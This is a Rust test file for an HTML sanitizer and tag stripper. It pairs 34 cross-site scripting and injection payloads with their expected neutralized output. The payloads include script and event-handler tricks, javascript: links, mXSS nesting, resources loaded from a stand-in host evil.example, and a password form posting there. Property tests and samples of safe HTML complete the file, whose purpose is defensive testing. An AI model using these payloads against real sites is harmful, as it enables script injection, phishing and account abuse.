//! What is left of hostile HTML, of honest HTML, and of texts that are none.

use proptest::prelude::*;

use super::*;

/// HTML that tries to act, and what is left of it.
const HOSTILE: [(&str, &str); 34] = [
    ("<script>alert(1)</script>x", "x"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ""),
    ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
    ("<img src=x onerror=alert(1)>", "<img referrerpolicy=\"no-referrer\">"),
    ("<img/src=x/onerror=alert(1)>", "<img referrerpolicy=\"no-referrer\">"),
    ("<svg onload=alert(1)>", ""),
    ("<svg><script>alert(1)</script></svg>", ""),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    ("<body onload=alert(1)>x", "x"),
    ("<iframe src=\"javascript:alert(1)\"></iframe>", ""),
    ("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", ""),
    ("<object data=\"data:text/html,<script>alert(1)</script>\"></object>", ""),
    ("<embed src=//evil.example/x.swf>", ""),
    ("<link rel=stylesheet href=//evil.example/x.css>", ""),
    ("<meta http-equiv=refresh content=\"0;url=//evil.example\">", ""),
    ("<base href=//evil.example/>", ""),
    ("<style>@import url(//evil.example/x.css)</style>x", "x"),
    ("<a href=\"javascript:alert(1)\">x</a>", "<a target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
    ("<a href=\" \u{1}java\tscript:alert(1)\">x</a>", "<a target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
    ("<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
    ("<a href=\"java&#x0A;script:alert(1)\">x</a>", "<a target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
    ("<a href=\"vbscript:msgbox(1)\">x</a>", "<a target=\"_blank\" rel=\"noopener noreferrer\">x</a>"),
    (
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
    ),
    (
        "<a href=\"/x\" target=_self rel=opener onclick=alert(1)>x</a>",
        "<a href=\"/x\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
    ),
    ("<form action=//evil.example><input name=password><button>OK</button></form>", "OK"),
    ("<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>", "<div style=\"\">x</div>"),
    ("<div style=\"background-image:url(//evil.example/x)\">x</div>", "<div style=\"\">x</div>"),
    ("<p style=\"margin:-999px;color:red;z-index:9\">x</p>", "<p style=\"color:red\">x</p>"),
    ("<p id=login class=modal name=x>x</p>", "<p>x</p>"),
    ("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img referrerpolicy=\"no-referrer\">"),
    (
        "<img src=\"cid:logo\"><img src=\"/admin/delete?id=1\">",
        "<img referrerpolicy=\"no-referrer\"><img referrerpolicy=\"no-referrer\">",
    ),
    ("<video autoplay onplay=alert(1)><source onerror=alert(1)></video>", ""),
    ("<!--[if IE]><script>alert(1)</script><![endif]-->x", "x"),
    (
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "&lt;p title=\"<img referrerpolicy=\"no-referrer\">\"&gt;",
    ),
];

#[test]
fn hostile_html_does_nothing() {
    for (html, left) in HOSTILE {
        assert_eq!(clean(html), left, "{html}");
    }
}

#[test]
fn honest_html_is_shown_as_it_was_meant() {
    for same in [
        "你好，您的工资已发，请及时查收！",
        "<p>a <b>b</b> <i>c</i> <u>d</u><br>e</p><hr>",
        "<ul><li>1</li><li>2</li></ul>",
        "<p style=\"color:red;font-size:14px;text-align:center\">x</p>",
        "<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>",
        "1 &lt; 2 &amp; 3",
    ] {
        assert_eq!(clean(same), same);
    }
    let link =
        "<a href=\"https://x.example/?a=1&amp;b=2\">x</a><a href=\"mailto:a@x.example\">m</a><a href=\"/path\">p</a>";
    let opened = link.replace("\">", "\" target=\"_blank\" rel=\"noopener noreferrer\">");
    assert_eq!(clean(link), opened);
    assert!(clean("<img src=\"https://x.example/a.png\" alt=\"a\">").contains("src=\"https://x.example/a.png\""));
    assert_eq!(clean("<font color=\"red\">x</font>"), "<font color=\"red\">x</font>");
}

#[test]
fn deep_and_long_html_ends() {
    for part in ["<div>", "<b>", "<table>", "<a href=x>"] {
        assert!(clean(&part.repeat(2_000)).starts_with(&part[..2]), "{part}");
        let many = format!("{}x & y", part.repeat(TAGS_MAX + 1));
        assert_eq!(strip_tags(&clean(&many)).trim(), "x & y", "{part}");
    }
    // Each paragraph repeats what is open.
    let open: String = (0..1_000).map(|n| format!("<b title={n}>")).collect();
    let grown = format!("<p>{open}{}", "<p>x</p>".repeat(1_000));
    assert!(clean(&grown).len() < grown.len());
}

#[test]
fn only_tags_that_html_knows_are_stripped() {
    for (text, stripped) in [
        ("您的验证码是 1234", "您的验证码是 1234"),
        ("a<b and c>d", "a<b and c>d"),
        ("a <b and c> d", "a <b and c> d"),
        ("<p align=center>x</p >", "x"),
        ("<hr/>x<hr / >y", "x\ny"),
        ("1<2", "1<2"),
        ("<姓名>您好", "<姓名>您好"),
        ("<bold>x</bold>", "<bold>x</bold>"),
        ("<name> <b", "<name> <b"),
        ("<b>x</b>", "x"),
        ("<P class=\"a>b\">x</P>\n<p>y", "x\n\ny"),
        ("a<br>b<br/>c<BR />d", "a\nb\nc\nd"),
        ("<div><p>x</p></div><p>y</p>", "x\ny"),
        ("<a href=\"https://x.example/?a=1&copy=2\">link</a>", "link"),
        ("https://x.example/?a=1&copy=2&lt=3", "https://x.example/?a=1&copy=2&lt=3"),
        ("x<!-- not < shown -->y", "xy"),
        ("x<!-- without an end", "x"),
        ("<style>p{color:red}</style>x<script>if (a<b) c()</script>y", "xy"),
        ("<script>without an end", ""),
        ("&lt;b&gt; &amp;amp; &quot;&nbsp;&hellip;", "<b> &amp; \" …"),
        ("&#20320;&#x597d;", "你好"),
        ("&#0;&#x1b;&#xd800;&unknown;&;& &#;", "&#0;&#x1b;&#xd800;&unknown;&;& &#;"),
        ("a<b>b<", "ab<"),
        ("</p>", ""),
        ("", ""),
    ] {
        assert_eq!(strip_tags(text), stripped, "{text}");
    }
}

/// Pieces of which HTML is made, well and badly.
const PIECES: &[&str] = &[
    "<",
    ">",
    "</",
    "/>",
    "\"",
    "'",
    "=",
    " ",
    "&",
    ";",
    "#",
    "<!--",
    "-->",
    "script",
    "style",
    "svg",
    "math",
    "img",
    "a",
    "p",
    "b",
    "table",
    "href",
    "src",
    "onerror",
    "javascript:",
    "https://x.example/",
    "title",
    "&lt;",
    "&#x3c;",
    "\0",
    "鸿",
    "\n",
    "x",
    "<![CDATA[",
    "]]>",
];

proptest! {
    #[test]
    fn what_is_clean_stays_clean(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..40)) {
        let cleaned = clean(&pieces.concat());
        prop_assert_eq!(clean(&cleaned), cleaned.clone());
        for tag in cleaned.split('<').skip(1).filter_map(|tag| tag.split('>').next()) {
            let is_known = ["a", "/a", "b", "/b", "img", "p", "/p", "table", "/table", "tbody", "/tbody"];
            prop_assert!(is_known.contains(&tag.split(' ').next().unwrap_or_default()), "{}", cleaned);
            // What is not quoted is a name.
            prop_assert!(tag.split('"').step_by(2).all(|names| !names.contains("onerror")), "{}", cleaned);
            prop_assert!(!tag.contains("href=\"javascript:") && !tag.contains("src=\"javascript:"), "{}", cleaned);
        }
    }

    #[test]
    fn stripping_ends_whatever_comes(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
        let text = pieces.concat();
        prop_assert!(strip_tags(&text).len() <= text.len());
    }
}
